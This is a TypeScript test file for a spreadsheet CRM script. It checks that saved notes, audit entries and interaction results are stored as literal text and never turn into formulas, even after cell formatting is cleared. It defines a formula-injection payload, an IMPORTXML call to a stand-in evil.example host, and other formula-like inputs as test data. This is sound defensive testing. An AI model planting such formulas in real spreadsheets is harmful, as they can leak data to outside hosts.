/**
 * Text stays text on every write, whatever the target cell's format is now:
 * a pasted row loses the plain-text format, a tab made before Set up never had
 * it, someone clears formatting. No write may turn a string into a formula,
 * a number or a date, and none may store a stray leading apostrophe.
 */
import { describe, expect, it } from 'vitest';
import * as server from '../../src/server';
import { rowsOf, unwrap, useEmulator } from '../support/emulated';
import { STORABLE } from '../support/hostile';

const INJECTION = '=IMPORTXML("http://evil.example","//a")';

function add(values: Record<string, string>) {
  const outcome = unwrap(server.apiSaveClient({ values, acknowledgeDuplicates: true }));
  if (outcome.status !== 'saved') throw new Error('not saved');
  return outcome.client;
}

function clients() {
  return SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Clients')!;
}

function column(name: string): number {
  return (clients().getRange(1, 1, 1, clients().getLastColumn()).getValues()[0] as string[]).indexOf(name) + 1;
}

describe('text stays text whatever the cell format', () => {
  const emu = useEmulator();
  const formulas = (tab: string) => emu().inspectSheet(tab).formulas.flat().filter(Boolean);

  it('a sidebar save into a row that lost the plain-text format (a paste) stores the formula-looking text as text', () => {
    server.menuSetUp();
    add({ Company: 'First' });
    const second = add({ Company: 'Second' });
    // An ordinary paste from another sheet brings that sheet's formats: row 3 is automatic now, row 2 still plain text.
    clients().getRange(3, 1, 1, clients().getLastColumn()).setNumberFormat('General');
    unwrap(server.apiSaveClient({ id: second.id, values: { Notes: INJECTION, 'Postal code': '007' }, expectedUpdated: second.updated }));
    expect(formulas('Clients')).toEqual([]);
    const row = rowsOf(emu(), 'Clients')[1];
    expect(row.Notes).toBe(INJECTION);
    expect(row['Postal code']).toBe('007');
  });

  it('a save into a plain-text row when row 2 lost its format stores no stray apostrophe', () => {
    server.menuSetUp();
    add({ Company: 'First' });
    const second = add({ Company: 'Second' });
    clients().getRange(2, 1, 1, clients().getLastColumn()).setNumberFormat('General');
    unwrap(server.apiSaveClient({ id: second.id, values: { Notes: '=1+1', Position: '+CEO' }, expectedUpdated: second.updated }));
    const row = rowsOf(emu(), 'Clients')[1];
    expect(row.Notes).toBe('=1+1');
    expect(row.Position).toBe('+CEO');
  });

  it('a new client appended below rows whose formatting was cleared keeps its text', () => {
    server.menuSetUp();
    add({ Company: 'First' });
    const sheet = clients();
    sheet.getRange(3, 1, sheet.getMaxRows() - 2, sheet.getLastColumn()).setNumberFormat('General');
    add({ Company: 'Second', Notes: INJECTION, Position: '-1' });
    expect(formulas('Clients')).toEqual([]);
    expect(rowsOf(emu(), 'Clients')[1]).toMatchObject({ Notes: INJECTION, Position: '-1' });
    expect(sheet.getRange(3, column('Notes')).getValue()).toBe(INJECTION);
  });

  it('Audit with its formats cleared still records formula-looking values as text', () => {
    server.menuSetUp();
    const audit = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Audit')!;
    audit.getRange(1, 1, audit.getMaxRows(), audit.getMaxColumns()).setNumberFormat('General');
    add({ Company: 'Acme', Notes: INJECTION });
    expect(formulas('Audit')).toEqual([]);
    expect(rowsOf(emu(), 'Audit').some((r) => r['New value'] === INJECTION)).toBe(true);
  });

  it('an Interactions tab that existed before Set up never runs a logged result as a formula', () => {
    emu().writeSheet('Interactions', [['ID', 'Client ID', 'Date', 'Type', 'Manager', 'Result', 'Next step', 'Next date', 'Done', 'Source']]);
    server.menuSetUp();
    const client = add({ Company: 'Acme' });
    unwrap(server.apiLogInteraction({ clientId: client.id, type: 'Call', result: INJECTION, nextStep: '@SUM(A1)' }));
    expect(formulas('Interactions')).toEqual([]);
    const [logged] = rowsOf(emu(), 'Interactions');
    expect(logged.Result).toBe(INJECTION);
    expect(logged['Next step']).toBe('@SUM(A1)');
  });

  it.each(STORABLE)('%s: saved exactly into a row whose format was cleared and into a plain-text row, or refused with a message', (_label, value) => {
    server.menuSetUp();
    const a = add({ Company: 'A' });
    const b = add({ Company: 'B' });
    clients().getRange(2, 1, 1, clients().getLastColumn()).setNumberFormat('General');
    for (const client of [a, b]) {
      const result = server.apiSaveClient({ id: client.id, values: { Notes: value }, expectedUpdated: client.updated });
      if (!result.ok) {
        expect(result.error.fields?.Notes).toBeTruthy();
        expect(rowsOf(emu(), 'Clients').map((r) => r.Notes)).toEqual(['', '']);
        return;
      }
    }
    expect(formulas('Clients')).toEqual([]);
    const notes = rowsOf(emu(), 'Clients').map((r) => r.Notes);
    const expected = value.trim() === '' ? notes[0] : value;
    expect(notes).toEqual([expected, expected]);
  });
});
